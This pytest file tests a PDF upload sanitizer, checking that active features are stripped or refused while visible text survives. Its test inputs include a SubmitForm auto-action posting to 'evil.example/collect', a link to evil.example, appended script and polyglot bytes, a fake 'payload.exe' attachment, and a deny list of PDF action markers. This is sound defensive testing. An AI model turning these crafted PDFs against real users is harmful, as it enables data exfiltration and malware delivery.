"""Every accepted PDF is rewritten: hostile features are gone, what a reader sees stays."""

from __future__ import annotations

from io import BytesIO

import pytest
from fpdf import FPDF
from pypdf import PdfReader, PdfWriter
from pypdf.generic import (
    ArrayObject,
    BooleanObject,
    DecodedStreamObject,
    DictionaryObject,
    FloatObject,
    NameObject,
    NumberObject,
    TextStringObject,
)

from hubpro import uploads, uploads_pdf
from hubpro.uploads import UploadRefused, check_upload

TEXT = "PERMIS DE CONDUIRE 13AA00002"
ALLOWED_ROOT = {"/Type", "/Pages"}
ALLOWED_PAGE = {"/Type", "/Parent", "/MediaBox", "/CropBox", "/Rotate", "/Resources", "/Contents"}
FORBIDDEN_BYTES = (b"/OpenAction", b"/AcroForm", b"/XFA", b"/Annots", b"/SubmitForm", b"/URI", b"/Widget",
                   b"/Outlines", b"/Metadata", b"/Names", b"/AA ")  # fmt: skip


def _text_pdf(pages: int = 1) -> bytes:
    pdf = FPDF()
    pdf.set_font("helvetica", size=14)
    for _ in range(pages):
        pdf.add_page()
        pdf.cell(text=TEXT)
    return bytes(pdf.output())


def _writer(pages: int = 1) -> PdfWriter:
    return PdfWriter(clone_from=PdfReader(BytesIO(_text_pdf(pages))))


def _bytes(writer: PdfWriter) -> bytes:
    out = BytesIO()
    writer.write(out)
    return out.getvalue()


def _stream(writer: PdfWriter, data: bytes, **entries) -> object:
    stream = DecodedStreamObject()
    stream.set_data(data)
    stream.update({NameObject(k): v for k, v in entries.items()})
    return writer._add_object(stream)


def _font(writer: PdfWriter) -> DictionaryObject:
    helv = DictionaryObject({NameObject("/Type"): NameObject("/Font"), NameObject("/Subtype"): NameObject("/Type1"),
                             NameObject("/BaseFont"): NameObject("/Helvetica")})  # fmt: skip
    return DictionaryObject({NameObject("/Font"): DictionaryObject({NameObject("/Helv"): writer._add_object(helv)})})


def _add_annotation(writer: PdfWriter, annot: dict) -> None:
    page = writer.pages[0]
    ref = writer._add_object(DictionaryObject({NameObject(k): v for k, v in annot.items()}))
    page[NameObject("/Annots")] = ArrayObject([*page.get("/Annots", []), ref])


def _filled_field(writer: PdfWriter, value: str, flags: int = 4) -> None:
    appearance = _stream(
        writer,
        f"/Tx BMC BT /Helv 12 Tf 2 6 Td ({value}) Tj ET EMC".encode(),
        **{"/Type": NameObject("/XObject"), "/Subtype": NameObject("/Form"), "/Resources": _font(writer),
           "/BBox": ArrayObject([FloatObject(0), FloatObject(0), FloatObject(200), FloatObject(20)])},
    )  # fmt: skip
    rect = ArrayObject([FloatObject(v) for v in (100, 500, 300, 520)])
    _add_annotation(writer, {"/Type": NameObject("/Annot"), "/Subtype": NameObject("/Widget"),
                             "/FT": NameObject("/Tx"), "/T": TextStringObject("nom"),
                             "/V": TextStringObject(value), "/Rect": rect, "/F": NumberObject(flags),
                             "/AP": DictionaryObject({NameObject("/N"): appearance})})  # fmt: skip
    writer._root_object[NameObject("/AcroForm")] = DictionaryObject(
        {NameObject("/Fields"): ArrayObject([writer.pages[0]["/Annots"][-1]])}
    )


def _assert_clean(data: bytes) -> PdfReader:
    assert data.rstrip().endswith(b"%%EOF")
    for marker in FORBIDDEN_BYTES:
        assert marker not in data, marker
    reader = PdfReader(BytesIO(data))
    assert set(reader.trailer["/Root"].keys()) <= ALLOWED_ROOT
    for page in reader.pages:
        assert set(page.keys()) <= ALLOWED_PAGE
    assert not uploads_pdf.has_active_objects(reader.trailer, rewritten=True)
    return reader


def _accepted(data: bytes) -> PdfReader:
    checked = check_upload(data, "document.pdf")
    assert checked.content_type == "application/pdf"
    return _assert_clean(checked.data)


def test_plain_pdf_keeps_its_pages_and_text():
    reader = _accepted(_text_pdf(pages=3))
    assert len(reader.pages) == 3
    assert all(TEXT in page.extract_text() for page in reader.pages)


def test_open_action_submit_form_is_removed():
    writer = _writer()
    writer._root_object[NameObject("/OpenAction")] = DictionaryObject({
        NameObject("/S"): NameObject("/SubmitForm"),
        NameObject("/F"): DictionaryObject({NameObject("/FS"): NameObject("/URL"),
                                            NameObject("/F"): TextStringObject("https://evil.example/collect")}),
    })  # fmt: skip
    data = _bytes(writer)
    assert b"/SubmitForm" in data
    reader = _accepted(data)
    assert b"evil.example" not in check_upload(data, "x.pdf").data
    assert TEXT in reader.pages[0].extract_text()


def test_xfa_form_is_removed():
    writer = _writer()
    xfa = _stream(writer, b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'><template/></xdp:xdp>")
    writer._root_object[NameObject("/AcroForm")] = DictionaryObject(
        {NameObject("/Fields"): ArrayObject(), NameObject("/XFA"): xfa}
    )
    data = _bytes(writer)
    assert b"/XFA" in data
    rewritten = check_upload(data, "x.pdf").data
    _assert_clean(rewritten)
    assert b"xdp:xdp" not in rewritten


def test_dynamic_xfa_form_is_refused():
    writer = _writer()
    writer._root_object[NameObject("/NeedsRendering")] = BooleanObject(True)
    with pytest.raises(UploadRefused) as excinfo:
        check_upload(_bytes(writer), "x.pdf")
    assert str(excinfo.value) == uploads.PDF_DYNAMIC_FORM


def test_bytes_after_eof_are_dropped():
    data = _text_pdf() + b"\n<html><script>alert(1)</script></html>\nPK\x03\x04polyglot"
    rewritten = check_upload(data, "x.pdf").data
    _assert_clean(rewritten)
    assert b"<script>" not in rewritten and b"polyglot" not in rewritten


def test_filled_form_is_flattened_into_the_page():
    writer = _writer()
    _filled_field(writer, "JEAN MARTIN")
    data = _bytes(writer)
    assert "JEAN MARTIN" not in PdfReader(BytesIO(data)).pages[0].extract_text()  # only in the widget so far
    reader = _accepted(data)
    text = reader.pages[0].extract_text()
    assert "JEAN MARTIN" in text and TEXT in text


def test_hidden_annotation_is_not_drawn():
    writer = _writer()
    _filled_field(writer, "CACHE", flags=2)
    reader = _accepted(_bytes(writer))
    assert "CACHE" not in reader.pages[0].extract_text()


def test_links_and_their_actions_are_removed():
    writer = _writer()
    rect = ArrayObject([FloatObject(v) for v in (10, 10, 100, 30)])
    uri = DictionaryObject(
        {NameObject("/S"): NameObject("/URI"), NameObject("/URI"): TextStringObject("https://evil.example")}
    )
    _add_annotation(writer, {"/Type": NameObject("/Annot"), "/Subtype": NameObject("/Link"), "/Rect": rect,
                             "/A": uri})  # fmt: skip
    data = _bytes(writer)
    assert b"/Link" in data
    _accepted(data)


def test_metadata_and_outline_are_removed():
    writer = _writer()
    writer.add_metadata({"/Author": "secret-author", "/Title": "secret-title"})
    writer.add_outline_item(title="Chapitre", page_number=0)
    writer._root_object[NameObject("/Metadata")] = _stream(writer, b"<x:xmpmeta>secret-xmp</x:xmpmeta>")
    rewritten = check_upload(_bytes(writer), "x.pdf").data
    _assert_clean(rewritten)
    for secret in (b"secret-author", b"secret-title", b"secret-xmp", b"Chapitre"):
        assert secret not in rewritten


def test_page_rotation_and_size_are_kept():
    writer = _writer()
    writer.pages[0].rotate(90)
    reader = _accepted(_bytes(writer))
    assert reader.pages[0].rotation == 90
    assert [round(float(v)) for v in reader.pages[0].mediabox] == [0, 0, 595, 842]


def test_embedded_file_is_refused():
    writer = _writer()
    writer.add_attachment("payload.exe", b"MZ\x90\x00")
    with pytest.raises(UploadRefused) as excinfo:
        check_upload(_bytes(writer), "x.pdf")
    assert str(excinfo.value) == uploads.PDF_ACTIVE
